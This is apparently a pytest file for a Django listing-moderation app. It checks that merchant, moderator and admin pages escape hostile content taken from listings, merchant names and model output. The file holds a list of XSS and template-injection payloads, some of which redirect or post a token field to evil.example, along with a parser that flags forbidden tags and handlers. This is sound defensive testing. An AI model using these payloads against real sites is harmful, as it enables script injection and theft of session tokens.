"""Whatever a listing or a model says, a page shows it and never obeys it."""

from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from moderation.models import Assessment, Submission
from moderation.states import Outcome
from tests.moderation.web.world import World, listing

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=lease_token>",
    "{{ 7|add:7 }}{% load ui %}{% csrf_token %}",
    '" autofocus onfocus="alert(1)',
    "<div hx-get='//evil.example' hx-trigger='load'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><script>alert(1)</script>",
)
# What no page of ours holds, with what only a listing could bring in.
FORBIDDEN = {"iframe", "style", "object", "embed", "base", "math", "font"}


class Watch(HTMLParser):
    """Notes every element and handler that a page of ours never has."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN or (tag == "script" and not dict(attrs).get("src")):
            self.found.append(tag)
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name == "style" or name == "srcdoc":
                self.found.append(f"{tag} {name}")
            is_address = name in ("href", "src", "action", "hx-get", "hx-post")
            if text.startswith("javascript:") or (
                is_address and "evil.example" in text and not text.startswith("?")
            ):
                self.found.append(f"{tag} {name}={text}")
            if tag == "img" or (name == "src" and "example.com" in text):
                self.found.append(f"{tag} {text}")


def poisoned(payload: str) -> dict[str, Any]:
    """Return content that says the payload in every field."""
    return {
        **listing(),
        "title": payload,
        "description": payload,
        "price": payload,
        "currency": payload,
        "category": payload,
        "brand": payload,
        "condition": payload,
        "language": payload,
        "attributes": {payload: payload},
        "image_urls": [f"https://img.example.com/{payload}"],
        "document_urls": [],
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_page_obeys_what_a_listing_or_a_model_says(
    world: World, client_of: Callable[[str], Client], payload: str
) -> None:
    clauses = [
        {
            "code": "P-701",
            "field": "description",
            "quote": payload,
            "action": "ask",
            "explanation": payload,
        }
    ]
    task = world.task(
        world.sent(),
        clauses=clauses,
        reasons=[{"code": payload, "message": payload}],
        confidence={"title": 0.1, "description": 0.1, "price": 0.1, "category": 0.1},
    )
    asked = world.task(world.sent(external_id="ASKED"))
    bad = poisoned(payload)
    changes = [{"code": "Q-03", "field": "title", "before": payload, "after": "x"}]
    Submission.objects.update(raw=bad, tidied=bad, title=payload[:500], changes=changes)
    Assessment.objects.update(proposed=bad, doubt=payload)
    world.merchant.name = payload
    world.merchant.save()
    world.decided(
        asked,
        Outcome.CHANGES_NEEDED,
        clauses=[{"code": "P-701", "field": "title", "quote": payload}],
        statement=payload,
    )
    merchant, mod = client_of("merchant"), client_of("moderator")
    mod.post("/review/next/", {"task": task.public_id})
    base = f"/review/{task.public_id}/"
    found = []
    for client, path in (
        (merchant, "/"),
        (merchant, "/listings/?tab=needs"),
        (merchant, f"/listings/?q={payload}"),
        (merchant, f"/listings/{task.submission.listing.public_id}/"),
        (merchant, f"/listings/{asked.submission.listing.public_id}/"),
        (mod, "/review/"),
        (mod, "/review/history/"),
        (mod, base),
        (mod, f"{base}reject/"),
        (mod, f"{base}escalate/"),
        (mod, f"{base}effect/"),
        (client_of("admin"), "/ops/"),
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        seen = Watch(response.content.decode()).found
        found += [f"{path}: {what}" for what in seen]
    assert not found, found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_form_gives_back_what_was_typed_without_obeying_it(
    client_of: Callable[[str], Client], payload: str
) -> None:
    data = dict.fromkeys(listing(), payload) | {
        "attributes": f"{payload}: {payload}",
        "image_urls": payload,
    }
    client = client_of("merchant")
    for path in ("/listings/new/", "/listings/preview/"):
        response = client.post(path, data)
        assert response.status_code in (200, 422), path
        assert not Watch(response.content.decode()).found, path


def test_a_rejection_never_shows_the_models_words_or_a_persons_name(
    world: World, client_of: Callable[[str], Client]
) -> None:
    task = world.knife()
    Assessment.objects.update(doubt="SECRET-DOUBT")
    world.decided(
        task,
        Outcome.REJECTED,
        clauses=[{"code": "P-102", "field": "description", "quote": "hunting trips"}],
    )
    path = f"/listings/{task.submission.listing.public_id}/"
    html = client_of("merchant").get(path).content.decode()
    assert "hunting trips" in html
    assert "P-102" in html
    assert "A person decided" in html
    assert "SECRET-DOUBT" not in html
    assert "the clause allows it" not in html
    assert "moderator" not in html.lower()


def test_no_page_fetches_a_merchants_picture(
    world: World, client_of: Callable[[str], Client]
) -> None:
    task = world.knife()
    html = client_of("moderator").get(f"/review/{task.public_id}/").content.decode()
    assert "2 photos sent" in html
    assert "img.example.com" not in html
